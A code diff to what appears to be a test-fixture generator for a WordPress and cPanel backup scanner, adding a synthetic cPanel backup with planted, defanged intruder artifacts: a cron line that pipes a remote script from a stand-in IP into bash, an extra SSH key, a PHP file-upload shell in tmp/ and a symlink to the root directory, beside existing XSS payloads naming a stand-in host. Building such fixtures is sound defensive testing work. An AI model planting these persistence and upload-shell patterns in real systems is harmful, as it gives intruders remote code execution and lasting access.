@@ -6,9 +6,12 @@
 - big.zip: ~600 MB of incompressible stored entries, so a scan runs long enough to cancel.
 - hostile-names.zip: file names and plugin headers made of HTML and script.
 - not-an-archive.txt: a text file.
+- cpanel-backup.tar.gz: a cPanel full backup (home directory, crontab, SSH keys, forwarders,
+  userdata, account lists) with an intruder's cron line, key, script in tmp/ and symlink to /;
+  everything planted is defanged (see tests/data/README.md).
 - wordpress-6.1.9.zip: the same tree shaped like an official release archive (reference).
 """
-import os, sys, zipfile
+import base64, io, os, struct, sys, tarfile, zipfile
 
 ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 OUT = os.path.join(ROOT, "tests", "e2e", "out", "fixtures")
@@ -65,6 +68,37 @@ with zipfile.ZipFile(os.path.join(OUT, "hostile-names.zip"), "w") as z:
         "CREATE TABLE `wp_posts` (`ID` bigint(20), `post_title` text, `post_content` longtext);",
         "INSERT INTO `wp_posts` VALUES (12,'<script>document.title=\\'pwned\\'</script>','<p>Hi</p><script src=\\\"https://evil.example.invalid/j.js\\\"></script><iframe src=\\\"javascript:alert(1)\\\"></iframe>');",
     ]) + "\n")
+
+def key(fill):
+    blob = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + bytes([fill]) * 32
+    return base64.b64encode(blob).decode()
+
+
+with tarfile.open(os.path.join(OUT, "cpanel-backup.tar.gz"), "w:gz") as t:
+    B = "backup-8.1.2024_03-00-00_jane/"
+    OLD, NEW = 1698900000, 1722136000
+    def add(name, data, mtime=OLD):
+        info = tarfile.TarInfo(B + name)
+        info.size, info.mtime = len(data), mtime
+        t.addfile(info, io.BytesIO(data))
+    def link(name, target):
+        info = tarfile.TarInfo(B + name)
+        info.type, info.linkname, info.mtime = tarfile.SYMTYPE, target, NEW
+        t.addfile(info)
+    add("version", b"archive version: 4\n")
+    add("cp/jane", b"DNS=janes-bakery.example\nUSER=jane\n")
+    add("cron/jane", b"*/15 * * * * /usr/local/bin/php /home/jane/public_html/wp-cron.php >/dev/null 2>&1\n*/10 * * * * curl -fsSL http://198.51.100.7/u.sh | bash >/dev/null 2>&1\n", NEW)
+    add("userdata/main", b"---\nmain_domain: janes-bakery.example\nsub_domains: []\n")
+    add("userdata/janes-bakery.example", b"---\ndocumentroot: /home/jane/public_html\nservername: janes-bakery.example\n")
+    add("va/janes-bakery.example", b"info@janes-bakery.example: jane.private@mail.example\n")
+    add("proftpdpasswd", b"jane:$6$REDACTED:1001:1001::/home/jane:/bin/ftpsh\n")
+    add("homedir/.ssh/authorized_keys", ("ssh-ed25519 %s jane@laptop\nssh-ed25519 %s deploy@build-7\n" % (key(1), key(2))).encode(), NEW)
+    add("homedir/etc/janes-bakery.example/passwd", b"info:x:1001:1001::/home/jane/mail/janes-bakery.example/info:/home/jane\n")
+    add("homedir/public_html/index.php", b"<?php\nrequire __DIR__ . '/wp-blog-header.php';\n")
+    add("homedir/public_html/wp-includes/version.php", b"<?php\n$wp_version = '6.5.5';\n")
+    add("homedir/tmp/.sess/up.php", b"<?php __halt_compiler();\nmove_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);\n", NEW)
+    link("homedir/www", "public_html")
+    link("homedir/public_html/wp-content/uploads/sym/root", "/")
 
 with open(os.path.join(OUT, "not-an-archive.txt"), "w") as f:
     f.write("Dear support, my site is hacked. Regards, Jane\n" * 20)
